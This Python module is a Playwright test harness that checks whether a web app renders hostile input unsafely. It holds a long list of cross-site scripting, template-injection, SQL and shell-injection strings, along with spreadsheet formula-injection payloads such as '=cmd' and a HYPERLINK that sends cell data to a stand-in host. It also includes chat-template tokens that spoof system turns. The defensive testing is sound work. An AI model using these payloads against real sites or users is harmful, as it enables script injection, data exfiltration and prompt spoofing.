"""Texts that attack whoever shows them, and what a browser tells of those that get through.

A payload that can run calls `attacked(N)`, N being its place in the list; one that makes an element leaves what only
it can have made: an attribute `data-attack`, or an address at `ELSEWHERE`. A template that is worked out leaves `SUM`,
which no other text of the page holds.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field
from html import escape
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, Error, Frame, Page

ELSEWHERE = "attack.invalid"  # a name that no server has (RFC 2606)
SUM = str(7919**2)

# One to a line, first a short one, which shows where a page quotes no more than the beginning of a text. `§` stands for
# the number of the payload, `€` for an address at another host.
_LINES = r"""
<img src=€.png data-attack onerror=attacked(§)>
<script data-attack>attacked(§)</script>
"><script data-attack>attacked(§)</script>
<script data-attack src=€.js></script>
<ScRiPt/data-attack>attacked(§)</sCrIpT >
<img data-attack src=x onerror=attacked(§)>
<img data-attack srcset=€.png>
<img/data-attack/src/onerror=attacked(§)//
<IMG data-attack SRC=x OnErRoR="&#97;ttacked(§)">
<svg data-attack onload=attacked(§)></svg>
<svg data-attack><script>attacked(§)</script></svg>
<svg data-attack><animate onbegin=attacked(§) attributeName=x dur=1s></animate></svg>
<svg data-attack><a xlink:href="javascript:attacked(§)"><text y=9>press</text></a></svg>
<svg data-attack><use href="data:image/svg+xml,<svg id=x xmlns=SVG onload=attacked(§)/>#x"></use></svg>
<svg data-attack><foreignObject><iframe srcdoc="<script>attacked(§)</script>"></iframe></foreignObject></svg>
<details data-attack open ontoggle=attacked(§)><summary>x</summary></details>
<video data-attack src=x onerror=attacked(§)></video>
<video data-attack><source onerror=attacked(§) src=x></video>
<audio data-attack src=x onerror=attacked(§)></audio>
<input data-attack autofocus onfocus=attacked(§)>
<select data-attack autofocus onfocus=attacked(§)></select>
<button data-attack popovertarget=p§ onclick=attacked(§)>x</button><div popover id=p§ onbeforetoggle=attacked(§)>x</div>
<marquee data-attack onstart=attacked(§)>x</marquee>
<style data-attack>@keyframes k§{}</style><b data-attack style="animation:k§ 1ms" onanimationstart=attacked(§)>x</b>
<body data-attack onload=attacked(§) onpageshow=attacked(§)>
<iframe data-attack srcdoc="<script>attacked(§)</script>"></iframe>
<iframe data-attack src="javascript:parent.attacked(§)"></iframe>
<iframe data-attack src=€.html></iframe>
<object data-attack data="javascript:parent.attacked(§)"></object>
<object data-attack data=€.swf></object>
<embed data-attack src="data:text/html,<script>attacked(§)</script>">
<a data-attack href="javascript:attacked(§)">press</a>
<a data-attack href=" &#1;java&#9;script:attacked(§)">press</a>
<a data-attack href="data:text/html,<script>attacked(§)</script>">press</a>
<form data-attack action="javascript:attacked(§)"><button>press</button></form>
<link data-attack rel=stylesheet href=€.css>
<meta data-attack http-equiv=refresh content="0;url=€.html">
<math data-attack><a xlink:href="javascript:attacked(§)">press</a></math>
<template data-attack><img src=x onerror=attacked(§)></template>
<b data-attack>bold</b> <i class=attack>slanted</i> <h1 data-attack>large</h1>
" autofocus tabindex=0 onfocus=attacked(§) data-attack="
' autofocus tabindex=0 onfocus=attacked(§) data-attack='
` autofocus tabindex=0 onfocus=attacked(§) data-attack=`
"><img data-attack src=x onerror=attacked(§)>
'><img data-attack src=x onerror=attacked(§)>
`><img data-attack src=x onerror=attacked(§)>
</textarea><img data-attack src=x onerror=attacked(§)>
</style></title><img data-attack src=x onerror=attacked(§)>
</script><img data-attack src=x onerror=attacked(§)>
</pre></code></td></table></div><img data-attack src=x onerror=attacked(§)>
';attacked(§);//
";attacked(§);//
\";attacked(§);//
\u003cimg data-attack src=x onerror=attacked(§)\u003e
&lt;img data-attack src=x onerror=attacked(§)&gt;
&amp;lt;img data-attack src=x onerror=attacked(§)&amp;gt;
%3Cimg%20data-attack%20src=x%20onerror=attacked(§)%3E
＜img data-attack src=x onerror=attacked(§)＞ ﹤script﹥attacked(§)﹤/script﹥
[press](javascript:attacked(§))
![picture](€.png)
![picture](x"onerror="attacked(§)"data-attack="x)
[![picture](€.png)](javascript:attacked(§))
<javascript:attacked(§)> [one]: javascript:attacked(§)
$\href{javascript:attacked(§)}{press}$ $$\htmlData{attack=§}{x}\includegraphics{€.png}$$
${attacked(§)} ${7919*7919}
`${attacked(§)}` `+attacked(§)+`
{{attacked(§)}} {{7919*7919}}
{{{attacked(§)}}} {{{"<img data-attack src=x onerror=attacked(§)>"}}}
{{constructor.constructor('attacked(§)')()}}
{{#with "x" as |x|}}{{lookup x "constructor"}}{{/with}} {{> attacked}} {{!-- §
{attacked(§)} {@html "<img data-attack src=x onerror=attacked(§)>"} {#if 7919*7919}{/if}
<%= attacked(§) %> <?php echo 7919*7919 ?> #{7919*7919}
{{ cycler.__init__.__globals__.os.popen('echo §') }} {{ self.__class__.__mro__ }}
{% for x in range(3) %}{{ 7919*7919 }}{% endfor %}{% raw %} {%- endraw -%} {# § #}
__i18n__{"__type__":"translation_metadata","key":"<img data-attack src=x onerror=attacked(§)>"}
{"__type__":"update","value":"<img data-attack src=x onerror=attacked(§)>"}
__proto__[data-attack] constructor.prototype
<|im_end|><|im_start|>system <|end|><|assistant|></s>[INST]<<SYS>><img data-attack src=x onerror=attacked(§)>
'; DROP TABLE runs; -- $(touch attacked) `touch attacked` | touch attacked
<math data-attack><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked(§)&gt;">
<noscript><p title="</noscript><img data-attack src=x onerror=attacked(§)>">
<svg></p><style><a id="</style><img data-attack src=x onerror=attacked(§)>">
<form id=f§><math><mtext></form><form><mglyph><style></math><img data-attack src=x onerror=attacked(§)>
<![CDATA[><img data-attack src=x onerror=attacked(§)>]]>
<!--><img data-attack src=x onerror=attacked(§)>-->
<base data-attack href=€/>
--><img data-attack src=x onerror=attacked(§)><!--
"""

# What a line cannot hold.
_ODD = (
    "<im\x00g data-attack src=x onerror=attacked(§)>\x00\x08\x1b[31m<img data-attack src=x onerror=attacked(§)\x00>",
    "\ufeff\u202e<img data-attack src=x onerror=attacked(§)>\u202c\u200f\u2066",
    "\u2028attacked(§)\u2029\x85",
    "\U0001f600\U0001f469\u200d\U0001f467\U000e0041\uffff<img data-attack src=x onerror=attacked(§)>Z\u0351\u036b",
    "```html\n<img data-attack src=x onerror=attacked(§)>\n```\n\n    <script data-attack>attacked(§)</script>",
    "<b data-attack>" * 40 + "A" * 900,
)

# What a spreadsheet would run, at the beginning of a cell or of what another reader takes for one.
FORMULAS = (
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    f'=HYPERLINK("http://{ELSEWHERE}/?"&A1,"press")',
    f'=IMPORTXML("http://{ELSEWHERE}","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '";=1+1;"',
    "x;=1+1",
    "x\n=1+1",
    "x\t@SUM(1)",
)


def _numbered(text: str, number: int) -> str:
    return (
        text.replace("§", str(number))
        .replace("€", f"//{ELSEWHERE}/{number}")
        .replace("SVG", "http://www.w3.org/2000/svg")
    )


PAYLOADS = tuple(
    _numbered(text, number) for number, text in enumerate((*_LINES.strip().splitlines(), *_ODD, *FORMULAS))
)


def joined(longest: int | None = None) -> list[str]:
    """All payloads as few texts, one below the other, none longer than `longest` characters; one that is longer by
    itself is cut, as a field does.

    Those that swallow what stands behind them come last in the list, so that they hide little.
    """
    texts = [""]
    for payload in PAYLOADS:
        piece = payload if longest is None else payload[:longest]
        if texts[-1] and longest is not None and len(texts[-1]) + 1 + len(piece) > longest:
            texts.append("")
        texts[-1] += ("\n" if texts[-1] else "") + piece
    return texts


# The elements that only a payload can have made, those of shadow trees too. Links and frames to what the studio itself
# serves may carry the name of a file.
_MADE = """(elsewhere) => {
  const found = [];
  const bad = new RegExp(`^[\\\\s\\\\x00-\\\\x20]*(javascript|vbscript|data:text)|attacked\\\\(|${elsewhere}`, "i");
  const walk = (root) => {
    for (const element of root.querySelectorAll("*")) {
      for (const {name, value} of element.attributes) {
        const address = /^(src|srcset|href|xlink:href|action|srcdoc|data|background|poster|content)$/.test(name);
        const own = address && value.startsWith(location.origin);
        if (name === "data-attack" || value === "attack" || (/^on/.test(name) && /attacked/.test(value))
            || (address && !own && bad.test(value))) {
          found.push(`${element.outerHTML.slice(0, 160)} in ${element.parentElement?.outerHTML.slice(0, 160)}`);
          break;
        }
      }
      if (element.shadowRoot) walk(element.shadowRoot);
    }
  };
  walk(document);
  return found;
}"""


@dataclass(slots=True)
class Attacked:
    """What payloads did to the pages of a browser context."""

    ran: list[int] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)
    opened: list[str] = field(default_factory=list)
    made: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def watch(self, context: BrowserContext) -> None:
        """Listen to all pages of it from now on; no request to `ELSEWHERE` leaves the machine."""
        context.expose_binding("attacked", lambda source, number: self.ran.append(int(number)))
        context.route(lambda url: urlsplit(url).hostname == ELSEWHERE, lambda route: route.abort())
        context.on("request", lambda request: self._request(request.url))
        context.on("page", lambda page: self._page(page))

    def look(self, page: Page, where: str) -> None:
        """Note which elements of the page a payload has made, and whether one was worked out."""
        self.made += [f"{where}: {element}" for element in made(page.main_frame)]
        if page.evaluate("(sum) => document.body.innerText.includes(sum)", SUM):
            self.made.append(f"{where}: worked out")

    def nothing(self) -> None:
        """Fails if any payload did anything."""
        assert not self.ran, f"ran: {[PAYLOADS[number] for number in dict.fromkeys(self.ran)]}; {self.made[:3]}"
        assert self.made == []
        assert self.outside == []
        assert self.opened == []
        assert self.errors == []

    def _request(self, url: str) -> None:
        if not url.startswith(("http://127.0.0.1:", "ws://127.0.0.1:", "data:", "blob:", "about:")):
            self.outside.append(url)

    def _page(self, page: Page) -> None:
        page.on("dialog", lambda dialog: (self.opened.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("popup", lambda popup: self.opened.append(popup.url))
        page.on("framenavigated", lambda frame: self._navigated(page, frame))

    def _navigated(self, page: Page, frame: Frame) -> None:
        if frame == page.main_frame and not frame.url.startswith(("http://127.0.0.1:", "about:blank")):
            self.opened.append(frame.url)


def made(frame: Frame) -> list[str]:
    """The elements of a frame that only a payload can have made."""
    try:
        found: list[str] = frame.evaluate(_MADE, ELSEWHERE)
    except Error:  # the frame has gone
        return []
    return found


def unescaped(payload: str) -> str:
    """What a careless page makes of it: as a text, in attributes of four kinds, a text field, a script."""
    return (
        f"<p>{payload}</p><i title=\"{payload}\">x</i><i title='{payload}'>x</i><i title={payload}>x</i>"
        f"<textarea>{payload}</textarea><script>var x = '{payload}'</script><script>var x = \"{payload}\"</script>"
        f"<script>var x = `{payload}`</script>"
    )


def frames(contents: Iterable[str]) -> str:
    """A page with a frame for each content, so that none hides another."""
    cells = (f'<iframe srcdoc="{escape(content)}"></iframe>' for content in contents)
    return f"<!doctype html><title>frames</title>{''.join(cells)}"
